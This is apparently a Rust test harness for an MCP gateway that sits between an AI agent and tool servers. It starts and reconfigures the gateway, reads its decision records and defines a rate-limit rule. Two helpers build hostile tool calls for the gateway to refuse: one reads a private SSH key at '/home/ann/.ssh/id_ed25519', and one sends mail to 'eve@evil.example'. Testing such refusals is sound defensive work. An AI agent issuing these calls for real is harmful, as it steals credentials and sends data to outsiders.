//! `mcps-gateway`: what passes, what is refused before any server hears of it, and what a server
//! cannot do to callers that are not its own.

mod adversaries;
mod asking;
mod attacks;
mod barriers;
mod bridge;
pub(crate) mod callers;
mod commands;
mod discovery;
mod evading;
mod hostile;
mod levels;
mod passing;
mod policies;
mod quarantine;
mod recall;
mod records;
mod redis;
mod reloading;
mod resuming;
mod server;
mod shared;
mod slow;
mod starting;
mod stdio;
mod stopping;
mod subscribing;
mod tenants;
mod together;
mod told;
mod verdicts;
mod why;

use std::fs;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::listen::caller::Caller;
use crate::wire::{INITIALIZE, Process, Stage, eventually};
use crate::world::run;

use server::Server;

/// A gateway, an authority, and somebody who may call.
struct Gate {
    stage: Stage,
    process: Process,
    /// The endpoint of all servers.
    url: String,
    home: PathBuf,
}

impl Gate {
    /// With this configuration.
    async fn open(config: &str) -> Self {
        Self::open_on(Stage::set(), config).await
    }

    async fn open_on(stage: Stage, config: &str) -> Self {
        let records = stage.world.dir().join("records");
        let home = stage.world.enrol("gateway", "gateway", 2);
        fs::write(stage.world.dir().join("gateway.toml"), approving(config)).unwrap();
        let (process, url) = Self::start(&stage, &home, &records).await;
        Self {
            stage,
            process,
            url,
            home,
        }
    }

    async fn start(stage: &Stage, home: &Path, records: &Path) -> (Process, String) {
        let dir = stage.world.dir();
        let mut program = stage.world.program("mcps-gateway");
        program.arg("--home").arg(home).arg("serve");
        program.arg("--config").arg(dir.join("gateway.toml"));
        program.arg("--record").arg(records);
        program.args(["--listen", "127.0.0.1:0", "--status-refresh", "0"]);
        let mut process = Process::start(&stage.world, program);
        let line = process.read().await;
        let url = line.strip_prefix("listening on ").unwrap().to_owned();
        (process, url)
    }

    /// Kills it and starts it again.
    async fn restart(&mut self) {
        self.process.kill().await;
        let records = self.stage.world.dir().join("records");
        (self.process, self.url) = Self::start(&self.stage, &self.home, &records).await;
    }

    /// The same, until calls of this server are taken: what was signed just before the end is refused for a
    /// moment, since nobody knows its nonces.
    async fn resume(&mut self, server: &str) {
        self.restart().await;
        eventually("the gateway takes messages again", async || {
            let (_, code) = self.caller(server).refused(INITIALIZE).await;
            code.is_none().then_some(())
        })
        .await;
    }

    /// The endpoint of one server.
    fn at(&self, server: &str) -> String {
        format!("{}/{server}", self.url)
    }

    /// The agent, at one server.
    fn caller(&self, server: &str) -> Caller {
        Caller::of(&self.stage.agent, &self.at(server))
    }

    /// The agent at one server in the era without sessions, about to call that tool.
    fn stateless(&self, server: &str, tool: &str) -> Caller {
        let mut caller = self.caller(server);
        caller.headers = [
            ("mcp-protocol-version", "2026-07-28"),
            ("mcp-method", "tools/call"),
            ("mcp-name", tool),
        ]
        .map(|(name, value)| (name.to_owned(), value.to_owned()))
        .to_vec();
        caller
    }

    /// Exchanges the configuration and waits until that is done.
    async fn reconfigure(&self, config: &str, said: &str) {
        let file = self.stage.world.dir().join("gateway.toml");
        fs::write(file, approving(config)).unwrap();
        let id = self.process.id().to_string();
        let sent = std::process::Command::new("kill")
            .args(["-s", "HUP", &id])
            .status();
        assert!(sent.unwrap().success());
        self.process.says(said).await;
    }

    /// All records of calls there are: those of its segments, which are written before it answers.
    fn records(&self) -> Vec<Value> {
        let mut tail = self.stage.world.mcps(&self.home);
        tail.args(["events", "tail", "-n", "100000", "-o", "json"]);
        let told = run(&mut tail).succeeded();
        let records = told.lines().map(|line| serde_json::from_str(line).unwrap());
        records
            .filter(|record: &Value| record["decision_id"].is_string())
            .collect()
    }

    /// The record that says this of itself, as soon as it is there.
    async fn record(&self, event: &str, decision_id: &str) -> Value {
        let is_it =
            |record: &Value| record["event"] == event && record["decision_id"] == decision_id;
        eventually("a record", async || self.records().into_iter().find(is_it)).await
    }
}

/// The same configuration, where what servers list first is approved, unless it says itself what is held back.
fn approving(config: &str) -> String {
    match config.contains("[quarantine]") {
        true => config.to_owned(),
        false => format!("{config}\n[quarantine]\nnew_servers = \"pin\"\n"),
    }
}

/// A rule by which `look` is called five times an hour in a scope, and no more.
fn at_most_five(scope: &str) -> String {
    format!(
        r#"
version = 1
[[fact]]
id = "look"
on = "call"
when = {{ tool = ["look"] }}
[[sequence]]
id = "no-more-than-five"
match = "count(look, 1h) > 5"
scope = "{scope}"
then = "deny"
reason = "Five are enough."
"#
    )
}

/// A server over HTTP as a configuration has it.
fn over_http(name: &str, server: &Server) -> String {
    format!("[[server]]\nname = \"{name}\"\nurl = \"{}\"\n", server.url)
}

/// A call of a tool with these arguments.
fn call_with(id: u32, tool: &str, arguments: &Value) -> String {
    let params = json!({"name": tool, "arguments": arguments});
    json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params}).to_string()
}

/// A key is read.
fn read_key(id: u32, tool: &str) -> String {
    call_with(id, tool, &json!({"path": "/home/ann/.ssh/id_ed25519"}))
}

/// And something sent to where it should not go.
fn send_mail(id: u32, tool: &str) -> String {
    let mail = json!({"to": "eve@evil.example", "body": "as asked"});
    call_with(id, tool, &mail)
}

/// The decision id of a refusal.
fn decision_of(text: &str) -> String {
    let message: Value = serde_json::from_str(text).unwrap();
    message["error"]["data"]["decision_id"]
        .as_str()
        .unwrap()
        .to_owned()
}
